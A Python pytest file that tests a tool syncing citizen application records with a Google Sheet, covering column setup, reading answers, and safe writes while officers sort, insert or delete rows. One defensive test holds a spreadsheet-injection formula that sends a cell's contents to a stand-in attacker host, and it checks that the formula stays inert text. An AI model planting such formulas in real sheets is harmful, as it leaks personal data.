"""The desk on a real Sheets API (the sandbox's): whatever Bu Ratna does to the sheet, no cell goes astray."""

from datetime import date, timedelta

import pytest

from sync.core.desk import DeskReading, DeskRow, RowUpdate
from sync.core.mendable import Mendable
from sync.core.outcomes import Never
from sync.core.settings import Columns
from sync.google.credentials import account_of
from tests.contract.google.conftest import DECISIONS, QUESTIONS, Counter, row_of

OWN = list(Columns().headers.values())
READ_ROWS = "sheets.spreadsheets.values.batchGet"
WRITE = "sheets.spreadsheets.values.batchUpdate"


def received(row: DeskRow, serial: int = 1) -> RowUpdate:
    reference = f"SKD-26-{serial:04}X"
    return RowUpdate(
        row,
        {
            "reference": reference,
            "status": "Diterima",
            "note": "Baik.",
            "document": "",
            "updated": "kini",
        },
    )


def opened(counter: Counter, *names: str) -> DeskReading:
    """The columns are there, these people applied, and the sheet was read."""
    counter.desk().prepare()
    for name in names:
        counter.applies(name)
    return counter.desk().read()


# --- prepare


def test_preparing_adds_the_columns_once(counter: Counter) -> None:
    """To the right of the form's, in their order; a second time nothing is left to do."""
    counter.applies("Citra Lestari")
    before = counter.values()

    assert counter.desk().prepare()
    assert not counter.desk().prepare()

    after = counter.values()
    assert after[0] == [*before[0], *OWN]
    assert after[1] == before[1]


def test_no_title_is_written_where_the_header_row_is_gone(counter: Counter) -> None:
    """Bu Ratna deleted row 1: the first row is an applicant's now, and must stay as it is."""
    counter.applies("Citra Lestari")
    counter.changes({"deleteDimension": {"range": counter.span("ROWS", 0, 1)}})
    before = counter.values()

    with pytest.raises(Mendable):
        counter.desk().prepare()

    assert counter.values() == before


def test_a_decision_is_chosen_from_a_list(counter: Counter) -> None:
    """Bu Ratna picks a word; a typed one is not refused, but told in the row."""
    counter.desk().prepare()
    about = counter.ratna.fetch_sheet_metadata(
        counter.spreadsheet_id,
        params={"includeGridData": "true", "ranges": f"'{counter.tab}'!A1:Z3"},
    )
    grid = about["sheets"][0]
    at = counter.headers().index("Keputusan")
    rule = grid["data"][0]["rowData"][1]["values"][at]["dataValidation"]
    assert [value["userEnteredValue"] for value in rule["condition"]["values"]] == DECISIONS
    assert not rule.get("strict")
    assert grid["properties"]["gridProperties"]["frozenRowCount"] == 1


def test_lokets_columns_warn_and_show_their_state(counter: Counter) -> None:
    """An officer who types into the status is asked whether that is meant; what went wrong is red."""
    counter.desk().prepare()
    about = counter.ratna.fetch_sheet_metadata(
        counter.spreadsheet_id,
        params={"fields": "sheets(protectedRanges,conditionalFormats)"},
    )
    (sheet,) = about["sheets"]
    columns = [rule["range"]["startColumnIndex"] for rule in sheet["protectedRanges"]]
    assert [counter.headers()[column] for column in columns] == OWN[:5]
    assert all(rule["warningOnly"] for rule in sheet["protectedRanges"])
    coloured = {
        rule["booleanRule"]["condition"]["values"][0]["userEnteredValue"]
        for rule in sheet["conditionalFormats"]
    }
    assert coloured == {"Menunggu petugas", "Selesai", "Perlu dicek", "Gagal kirim"}


def test_a_sheet_that_is_full_to_its_last_column_is_grown(counter: Counter) -> None:
    """A new form's sheet may be exactly as wide as its questions."""
    width = len(counter.headers())
    about = counter.ratna.fetch_sheet_metadata(counter.spreadsheet_id)
    grid = about["sheets"][0]["properties"]["gridProperties"]["columnCount"]
    if grid > width:
        counter.changes({"deleteDimension": {"range": counter.span("COLUMNS", width, grid)}})

    counter.desk().prepare()

    assert counter.headers()[width:] == OWN


def test_what_stands_to_the_right_without_a_header_is_left_alone(counter: Counter) -> None:
    """Officers count and jot beside the answers."""
    counter.applies("Citra Lestari")
    width = len(counter.headers())
    counter.types(f"{chr(ord('A') + width)}2", "hubungi besok")

    counter.desk().prepare()

    cells = counter.values()[1]
    assert "hubungi besok" in cells
    assert cells.index("hubungi besok") >= width + len(OWN)


def test_a_column_that_was_deleted_comes_back(counter: Counter) -> None:
    """Only that one; the others stay where Bu Ratna put them."""
    opened(counter, "Citra Lestari")
    at = counter.headers().index("Keterangan")
    counter.changes({"deleteDimension": {"range": counter.span("COLUMNS", at, at + 1)}})

    assert counter.desk().prepare()
    assert sorted(counter.headers()) == sorted(
        [*OWN, *(h for h in counter.headers() if h not in OWN)]
    )
    assert counter.headers().count("Keterangan") == 1


def test_a_question_of_the_form_is_not_taken_for_lokets_column(counter: Counter) -> None:
    """A form that asks for "Keterangan" must not have its answers written over."""
    counter.types(f"{chr(ord('A') + len(counter.headers()))}1", "keterangan:")
    with pytest.raises(Mendable) as caught:
        counter.desk().prepare()
    assert caught.value.problems[0].name == "kolom-bentrok"
    assert "Status" not in counter.headers()


def test_two_at_once_make_no_column_twice(counter: Counter) -> None:
    """A forgotten PC starts in the same moment."""
    other = counter.desk()
    at = len(counter.headers())
    counter.at_the_next(
        "sheets.spreadsheets.batchUpdate",
        {
            "insertDimension": {
                "range": counter.span("COLUMNS", 1, 2),
                "inheritFromBefore": False,
            }
        },
    )
    counter.desk().prepare()
    other.prepare()

    headers = counter.headers()
    assert [header for header in headers if header in OWN] == OWN
    assert len(headers) == at + 1 + len(OWN)
    assert "Alamat Email" in headers or "Email Address" in headers


def test_a_lost_answer_makes_no_column_twice(counter: Counter) -> None:
    """An insert that is sent again would leave two of each header, and a sheet that can't be read."""
    counter.google.faults(
        {"api": "sheets.spreadsheets.batchUpdate", "do": "drop-after", "times": 1}
    )
    assert counter.desk().prepare()
    assert [header for header in counter.headers() if header in OWN] == OWN


# --- read


def test_answers_are_read_as_they_are(counter: Counter) -> None:
    """A NIK keeps its digits, a date is a serial number, a leading zero stays."""
    counter.desk().prepare()
    counter.applies("Citra Lestari", NIK="0472010101900001")
    reading = counter.desk().read()

    (row,) = reading.rows
    assert row.answers["Nama Lengkap"] == "Citra Lestari"
    assert str(row.answers["NIK"]).lstrip("0") == "472010101900001"
    born = row.answers["Tanggal Lahir"]
    assert not isinstance(born, str)
    assert date(1899, 12, 30) + timedelta(days=int(born)) == date(1990, 1, 31)
    assert float(row.submitted) > 46000
    assert row.reference == ""
    assert reading.timezone


def test_moved_renamed_and_hidden_columns_are_found(counter: Counter) -> None:
    """By their header, at every reading."""
    opened(counter, "Citra Lestari")
    at = counter.headers().index("NIK")
    last = len(counter.headers())
    counter.changes(
        {
            "moveDimension": {
                "source": counter.span("COLUMNS", at, at + 1),
                "destinationIndex": last,
            }
        },
        {
            "updateDimensionProperties": {
                "range": counter.span("COLUMNS", 1, 2),
                "properties": {"hiddenByUser": True},
                "fields": "hiddenByUser",
            }
        },
    )
    counter.types(f"{chr(ord('A') + last - 1)}1", " nik : ")

    (row,) = counter.desk().read().rows
    assert str(row.answers["NIK"]).startswith("6472")
    assert row.answers["Nama Lengkap"] == "Citra Lestari"


def test_a_missing_column_is_named(counter: Counter) -> None:
    """With what looks like it."""
    opened(counter)
    at = counter.headers().index("NIK")
    counter.types(f"{chr(ord('A') + at)}1", "NIK Pemohon")
    with pytest.raises(Mendable) as caught:
        counter.desk().read()
    assert '"NIK"' in caught.value.problems[0].found
    assert '"NIK Pemohon"' in caught.value.problems[0].found


def test_rows_without_answers_are_passed_over(counter: Counter) -> None:
    """Empty lines and notes between are no applications; numbers stay those of the sheet."""
    opened(counter, "Citra Lestari", "Doni Saputra")
    counter.changes(
        {
            "insertDimension": {
                "range": counter.span("ROWS", 2, 4),
                "inheritFromBefore": False,
            }
        }
    )
    assert [row.number for row in counter.desk().read().rows] == [2, 5]


def test_the_version_changes_with_every_edit(counter: Counter) -> None:
    """An idle poll asks only this, and must not miss a decision."""
    opened(counter, "Citra Lestari")
    desk = counter.desk()
    calls = counter.transport.calls
    before = desk.version()
    assert desk.version() == before
    assert counter.transport.calls == calls + 2

    at = counter.headers().index("Keputusan")
    counter.types(f"{chr(ord('A') + at)}2", "Setujui")
    assert desk.version() != before


def test_a_sheet_that_is_not_shared_says_so(counter: Counter) -> None:
    """The commonest trouble of a new office: where, what, and which account must be let in."""
    counter.spreadsheet_id = "tidak-ada-sheet-seperti-ini"
    for call in (counter.desk().version, counter.desk().prepare, counter.desk().read):
        with pytest.raises(Mendable) as caught:
            call()
        (problem,) = caught.value.problems
        assert problem.name == "sheet-tidak-terjangkau"
        assert "tidak-ada-sheet-seperti-ini" in problem.where
        assert account_of(counter.google.credentials) in problem.allowed


# --- write


def test_written_cells_stand_in_their_row(counter: Counter) -> None:
    """The everyday case: nothing moved, and officers' cells are as they were."""
    reading = opened(counter, "Citra Lestari", "Doni Saputra")
    at = counter.headers().index("Catatan Petugas")
    counter.types(f"{chr(ord('A') + at)}2", "catatan Bu Ratna")
    before = counter.values()

    report = counter.desk().write([received(row, n) for n, row in enumerate(reading.rows, 1)])

    assert (report.written, report.moved) == (2, False)
    assert counter.column("No. Permohonan") == ["SKD-26-0001X", "SKD-26-0002X"]
    assert counter.column("Catatan Petugas") == ["catatan Bu Ratna", ""]
    after = counter.values()
    width = len(before[0]) - len(OWN)
    assert [row[:width] for row in after] == [row[:width] for row in before]


def test_a_formula_stays_text(counter: Counter) -> None:
    """A citizen's name ends up in a note; it must not run as a formula in the officer's browser."""
    reading = opened(counter, "Citra Lestari")
    formula = '=IMPORTXML("https://jahat.test/?"&A2, "//a")'

    counter.desk().write(
        [RowUpdate(reading.rows[0], {"note": formula, "status": "+62812", "updated": "0812"})]
    )

    assert counter.column("Keterangan") == [formula]
    at = counter.headers().index("Keterangan")
    assert counter.values("FORMULA")[1][at] == formula
    assert counter.column("Status") == ["+62812"]
    assert counter.column("Diperbarui") == ["0812"]


def test_rows_sorted_since_the_reading_are_not_written(counter: Counter) -> None:
    """Citra's status must not stand beside Doni's name, not even for a moment."""
    reading = opened(counter, "Citra Lestari", "Doni Saputra")
    counter.changes(counter.sort_by(counter.headers().index("Nama Lengkap"), descending=True))

    report = counter.desk().write([received(row_of(reading.rows, "Citra Lestari"))])

    assert report.moved
    assert report.written == 0
    assert set(counter.column("No. Permohonan")) == {""}


def test_rows_sorted_in_the_very_moment_are_reported(counter: Counter) -> None:
    """Between our last look and the write: Google offers no way to exclude it, so it is found afterwards.

    Doni's row, which nobody has read yet, must not keep Citra's reference: it would be taken for a copy of hers.
    """
    reading = opened(counter, "Citra Lestari", "Doni Saputra")
    name = counter.headers().index("Nama Lengkap")
    counter.at_the_next(WRITE, counter.sort_by(name, descending=True))

    report = counter.desk().write([received(row_of(reading.rows, "Citra Lestari"))])

    assert report.moved
    assert "SKD-26-0001X" not in counter.column("No. Permohonan")


def test_a_reading_after_a_move_puts_everything_right(counter: Counter) -> None:
    """What the worker does next: read again, write what is wrong now. Row and victim are both restored."""
    reading = opened(counter, "Citra Lestari", "Doni Saputra")
    name = counter.headers().index("Nama Lengkap")
    counter.at_the_next(WRITE, counter.sort_by(name, descending=True))
    counter.desk().write([received(row_of(reading.rows, "Citra Lestari"))])

    rows = counter.desk().read().rows
    empty = dict.fromkeys(("reference", "status", "note", "document", "updated"), "")
    report = counter.desk().write(
        [received(row_of(rows, "Citra Lestari")), RowUpdate(row_of(rows, "Doni Saputra"), empty)]
    )

    assert not report.moved
    again = counter.desk().read().rows
    assert row_of(again, "Citra Lestari").reference == "SKD-26-0001X"
    assert row_of(again, "Doni Saputra").reference == ""


@pytest.mark.parametrize("moment", [READ_ROWS, WRITE])
def test_a_deleted_row_is_reported(counter: Counter, moment: str) -> None:
    """Deleted before our look, or between it and the write."""
    reading = opened(counter, "Citra Lestari", "Doni Saputra")
    citra = row_of(reading.rows, "Citra Lestari")
    counter.at_the_next(
        moment,
        {"deleteDimension": {"range": counter.span("ROWS", citra.number - 1, citra.number)}},
    )

    assert counter.desk().write([received(citra)]).moved


def test_the_sheets_last_row_deleted_is_reported_too(counter: Counter) -> None:
    """Then the row's number lies beyond the sheet, and Google refuses instead of answering."""
    reading = opened(counter, "Citra Lestari")
    grid = counter.ratna.fetch_sheet_metadata(counter.spreadsheet_id)["sheets"][0]["properties"]
    end = grid["gridProperties"]["rowCount"]
    counter.types("A2", "1")
    counter.changes({"deleteDimension": {"range": counter.span("ROWS", 1, end)}})

    assert counter.desk().write([received(reading.rows[0])]).moved


def test_an_edited_answer_is_reported(counter: Counter) -> None:
    """The row is no longer what was checked; the worker must look again."""
    reading = opened(counter, "Citra Lestari")
    at = counter.headers().index("NIK")
    counter.types(f"{chr(ord('A') + at)}2", "6472010101900009")

    assert counter.desk().write([received(reading.rows[0])]).moved


def test_a_column_inserted_in_the_very_moment_costs_no_answer(counter: Counter) -> None:
    """The reference lands on an answer: the answer is given back, and the worker writes anew."""
    reading = opened(counter, "Citra Lestari")
    before = dict(zip(counter.headers(), counter.values()[1], strict=False))
    counter.at_the_next(
        WRITE,
        {
            "insertDimension": {
                "range": counter.span("COLUMNS", 1, 2),
                "inheritFromBefore": False,
            }
        },
    )

    report = counter.desk().write([received(reading.rows[0])])

    assert report.moved
    after = dict(zip(counter.headers(), counter.values()[1], strict=False))
    assert {h: after[h] for h in before if h not in OWN} == {
        h: before[h] for h in before if h not in OWN
    }
    (row,) = counter.desk().read().rows
    assert row.answers == reading.rows[0].answers


def test_a_protected_column_says_what_to_mend(counter: Counter) -> None:
    """Bu Ratna locked the sheet for everybody, Loket included."""
    reading = opened(counter, "Citra Lestari")
    at = counter.headers().index("Status")
    counter.changes(
        {
            "addProtectedRange": {
                "protectedRange": {
                    "range": {
                        "sheetId": counter.sheet_id,
                        "startColumnIndex": at,
                        "endColumnIndex": at + 1,
                    },
                    "editors": {"users": []},
                }
            }
        }
    )
    with pytest.raises(Never) as caught:
        counter.desk().write([received(reading.rows[0])])
    assert "dilindungi" in caught.value.reason


def test_a_lost_answer_of_a_write_does_no_harm(counter: Counter) -> None:
    """It is written again, and the read-back says that all is well."""
    reading = opened(counter, "Citra Lestari")
    counter.google.faults({"api": WRITE, "do": "drop-after", "times": 1})
    report = counter.desk().write([received(reading.rows[0])])
    assert (report.written, report.moved) == (1, False)
    assert counter.column("No. Permohonan") == ["SKD-26-0001X"]


def test_a_hundred_rows_take_three_calls(counter: Counter) -> None:
    """One look, one write, one read-back: the minute's quota is for many offices' rows."""
    reading = opened(counter, *(f"Warga {number}" for number in range(30)))
    calls = counter.transport.calls

    report = counter.desk().write([received(row, n) for n, row in enumerate(reading.rows)])

    assert (report.written, report.moved) == (30, False)
    assert counter.transport.calls == calls + 3


def test_nothing_to_write_costs_nothing(counter: Counter) -> None:
    """An idle cycle has no updates."""
    desk = counter.desk(QUESTIONS)
    calls = counter.transport.calls
    assert not desk.write([]).moved
    assert counter.transport.calls == calls


# --- more than one thing in the same moment


def without_own(counter: Counter) -> dict[str, dict[str, object]]:
    """Every applicant's row by header, without Loket's columns."""
    header, *rows = counter.values()
    at = header.index("Nama Lengkap")
    whole = [[*row, *[""] * (len(header) - len(row))] for row in rows]
    return {
        row[at]: {
            title: cell for title, cell in zip(header, row, strict=True) if title not in OWN[:5]
        }
        for row in whole
    }


@pytest.mark.parametrize("other", ["sorted", "inserted", "deleted"])
def test_columns_and_rows_that_move_together_cost_nobody_a_cell(
    counter: Counter, other: str
) -> None:
    """Loket's words land on the answers of a row it never looked at: they are found in its last reading."""
    desk = counter.desk()
    opened(counter, "Citra Lestari", "Doni Saputra", "Eka Wijaya")
    for number in (2, 3, 4):
        counter.types(f"{chr(ord('A') + counter.headers().index('Keputusan'))}{number}", "Tolak")
    reading = desk.read()
    before = without_own(counter)
    name = counter.headers().index("Nama Lengkap")
    rows = {
        "sorted": counter.sort_by(name, descending=True),
        "inserted": {"insertDimension": {"range": counter.span("ROWS", 1, 2)}},
        "deleted": {"deleteDimension": {"range": counter.span("ROWS", 1, 2)}},
    }[other]
    column = {"insertDimension": {"range": counter.span("COLUMNS", 1, 3)}}
    counter.at_the_next(WRITE, rows, column)

    report = desk.write([received(row_of(reading.rows, "Citra Lestari"))])

    assert report.moved
    after = {person: row for person, row in without_own(counter).items() if person}
    assert after.keys() >= before.keys() - ({"Citra Lestari"} if other == "deleted" else set())
    for person, row in after.items():
        assert {title: row[title] for title in before[person]} == before[person]


@pytest.mark.parametrize("lost", ["NIK", "Status"])
def test_a_column_deleted_in_the_very_moment_costs_no_officers_cell(
    counter: Counter, lost: str
) -> None:
    """All columns to the right move up: what landed on Keputusan is taken away before the lost column is told."""
    desk = counter.desk()
    opened(counter, "Citra Lestari")
    at = counter.headers().index("Keputusan")
    counter.types(f"{chr(ord('A') + at)}2", "Setujui")
    reading = desk.read()
    column = counter.headers().index(lost)
    counter.at_the_next(
        WRITE, {"deleteDimension": {"range": counter.span("COLUMNS", column, column + 1)}}
    )

    with pytest.raises(Mendable):
        desk.write([received(reading.rows[0])])

    assert counter.column("Keputusan") == ["Setujui"]
    assert counter.column("Nama Lengkap") == ["Citra Lestari"]


def test_a_sheet_in_the_bin_says_so(counter: Counter) -> None:
    """Google goes on answering for it until it is deleted for good."""
    opened(counter, "Citra Lestari")
    url = f"https://www.googleapis.com/drive/v3/files/{counter.spreadsheet_id}"
    officer = counter.google.transport(counter.google.officer)
    try:
        officer.request("PATCH", url, json={"trashed": True})
        with pytest.raises(Mendable) as caught:
            counter.desk().version()
        assert "Sampah" in caught.value.problems[0].found
        officer.request("PATCH", url, json={"trashed": False})
        assert counter.desk().version()
    finally:
        officer.close()
